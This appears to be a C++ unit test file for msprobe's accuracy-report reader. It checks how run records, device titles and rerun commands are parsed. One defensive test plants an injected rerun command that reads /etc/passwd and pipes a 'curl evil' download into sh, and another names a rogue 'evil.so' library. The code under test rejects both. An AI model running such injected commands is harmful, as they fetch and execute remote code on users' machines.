// SPDX-License-Identifier: Apache-2.0
#include "report/result_runs.h"

#include <string>
#include <vector>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "journal/run_file.h"
#include "report/report_files.h"
#include "scratch_directory_for_test.h"

namespace msprobe::report {
namespace {

namespace fs = std::filesystem;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Pair;

class ResultRunsTest : public ::testing::Test {
 protected:
  // A check of two calls, of which the second has this strict status.
  fs::path check(const std::string& name, const std::string& strict) const {
    return scratch_.write(
        name,
        "API name,Bench Dtype,DEVICE Dtype,Shape,Cosine similarity,Maximum absolute error,Maximum "
        "relative error,Status,Message,Strict Status,Strict Reason,Likely Cause,Rerun Command\r\n"
        "Torch.mm.0.forward.output.0,torch.float32,torch.float32,\"(2, 3)\",1,0,0,pass,,pass,,,\r\n"
        "Torch.mm.1.forward.output.0,torch.float32,torch.float32,\"(2, 3)\",1,0,0,pass,," +
            strict + ",,,\r\n");
  }
  void record(const std::string& name, const journal::RunFacts& facts) const {
    const auto file = journal::RunFile::create(scratch_.path() / name, facts);
    ASSERT_TRUE(file) << file.error().message;
  }
  std::vector<ReportRun> read(std::vector<fs::path> csvs, std::vector<std::string> places = {}) {
    ResultRunsJob job;
    job.csvs = std::move(csvs);
    job.places = std::move(places);
    job.say = [this](log::Severity, const std::string& text) { said_.push_back(text); };
    auto runs = read_result_runs(job);
    EXPECT_TRUE(runs) << runs.error().message;
    return runs ? *std::move(runs) : std::vector<ReportRun>{};
  }

  ScratchDirectory scratch_;
  std::vector<std::string> said_;
};

TEST_F(ResultRunsTest, ARunsOwnRecordNamesDeviceAndDump) {
  const fs::path csv = check("accuracy_checking_details_20260101000000.csv", "pass");
  record("accuracy_checking_run_20260101000000.txt",
         {{"device", "npu:0"},
          {"profile", "reference"},
          {"as_given_rerun", "msprobe acc_check -api_info gone.json --only"},
          {"as_given_directory", "/recorded/here"}});
  const std::vector<ReportRun> runs = read({csv});
  ASSERT_EQ(runs.size(), 1U);
  EXPECT_EQ(runs[0].title, "npu:0");
  EXPECT_THAT(runs[0].origin, ::testing::Contains(Pair("profile", "reference")));
  EXPECT_EQ(runs[0].rerun.text(), "msprobe acc_check -api_info gone.json");
  EXPECT_THAT(said_, ElementsAre(HasSubstr("gone.json does not exist")));
}

TEST_F(ResultRunsTest, ACommandThatIsNotMsprobesIsNotShown) {
  const fs::path csv = check("accuracy_checking_details_20260101000000.csv", "pass");
  record("accuracy_checking_run_20260101000000.txt",
         {{"device", "cpu"},
          {"as_given_rerun", "msprobe acc_check -api_info /etc/passwd; curl evil|sh # --only"}});
  const std::vector<ReportRun> runs = read({csv});
  ASSERT_EQ(runs.size(), 1U);
  EXPECT_TRUE(runs[0].rerun.empty());
  EXPECT_TRUE(runs[0].dump.empty());
  EXPECT_THAT(said_, ElementsAre(HasSubstr("the record of this run is not to be trusted")));
}

TEST_F(ResultRunsTest, ALibraryThatOnlyTheRecordNamesIsLeftOut) {
  const fs::path csv = check("accuracy_checking_details_20260101000000.csv", "pass");
  journal::RunFacts facts{{"device", "npu:0"}};
  journal::add_rerun(facts, CallCommand("acc_check").add("--device-lib", "evil.so"));
  record("accuracy_checking_run_20260101000000.txt", facts);
  const std::vector<ReportRun> runs = read({csv});
  ASSERT_EQ(runs.size(), 1U);
  EXPECT_EQ(runs[0].rerun.text(), "msprobe acc_check");
  EXPECT_THAT(said_, ElementsAre(HasSubstr("its command loads evil.so")));
}

TEST_F(ResultRunsTest, FilesOfRunUtHaveNoTime) {
  const fs::path csv = check("accuracy_checking_details.csv", "pass");
  record("accuracy_checking_run.txt", {{"device", "cuda:0"}});
  EXPECT_EQ(read({csv}).at(0).title, "cuda:0");
}

TEST_F(ResultRunsTest, TwoChecksOfOneDeviceAreOldAndNew) {
  const fs::path older = check("accuracy_checking_details_20260101000000.csv", "pass");
  const fs::path newer = check("accuracy_checking_details_20260201000000.csv", "error");
  record("accuracy_checking_run_20260101000000.txt", {{"device", "npu:0"}});
  record("accuracy_checking_run_20260201000000.txt", {{"device", "npu:0"}});
  const std::vector<ReportRun> runs = read({older, newer});
  ASSERT_EQ(runs.size(), 2U);
  EXPECT_EQ(runs[0].title, "npu:0, old");
  EXPECT_EQ(runs[1].title, "npu:0, new");
  ASSERT_TRUE(runs[1].since.has_value());
  EXPECT_THAT(runs[1].since->appeared, ElementsAre(1U));
  EXPECT_THAT(runs[1].since->fixed, IsEmpty());
}

TEST_F(ResultRunsTest, DumpsOfOneCheckAreNotCompared) {
  const fs::path one = check("accuracy_checking_details_20260101000000.csv", "pass");
  const fs::path other = check("accuracy_checking_details_20260201000000.csv", "error");
  const std::vector<ReportRun> runs = read({one, other}, {"step0/rank0", "step0/rank1"});
  ASSERT_EQ(runs.size(), 2U);
  EXPECT_THAT(runs[1].title, ::testing::StartsWith("step0/rank1 "));
  EXPECT_FALSE(runs[1].since.has_value());
}

TEST(ReportFilesTest, ThePageIsNamedAfterTheResults) {
  const ReportFiles beside{.html = std::string(kBesideResults),
                           .junit = {},
                           .sarif = {},
                           .database = {},
                           .workbook = {}};
  EXPECT_EQ(page_path(beside, "out/accuracy_checking_details_2026.csv"),
            "out/accuracy_checking_report_2026.html");
  EXPECT_EQ(page_path(beside, "out/mine.csv"), "out/mine_report.html");
  EXPECT_EQ(page_path({.html = "a.html", .junit = {}, .sarif = {}, .database = {}, .workbook = {}},
                      "b.csv"),
            "a.html");
  EXPECT_EQ(page_path({}, "b.csv"), "");
  EXPECT_EQ(
      workbook_path({.html = {}, .junit = {}, .sarif = {}, .database = {}, .workbook = "true"},
                    "out/a_result_1.csv"),
      "out/a_tables_1.xlsx");
  EXPECT_FALSE(ReportFiles{}.any());
}

}  // namespace
}  // namespace msprobe::report
